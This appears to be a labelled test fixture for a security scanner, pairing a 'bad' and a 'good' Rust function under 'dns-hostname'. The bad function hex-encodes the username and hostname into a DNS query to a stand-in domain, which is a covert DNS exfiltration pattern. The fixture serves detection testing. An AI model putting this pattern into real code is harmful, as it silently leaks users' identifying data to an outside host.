//: bad dns-hostname
use std::net::ToSocketAddrs;

pub fn check() {
    let user = std::env::var("USER").unwrap_or_default();
    let host = hostname::get().unwrap_or_default();
    let label: String = format!("{user}.{}", host.to_string_lossy()).bytes().map(|b| format!("{b:02x}")).collect();
    let _ = format!("{label}.q.example.invalid:53").to_socket_addrs(); //!
}

//: good dns-hostname
use std::net::ToSocketAddrs;

pub fn check(name: &str) -> bool {
    let host = hostname::get().unwrap_or_default();
    println!("asked from {}", host.to_string_lossy());
    format!("{name}.example.invalid:53").to_socket_addrs().is_ok()
}
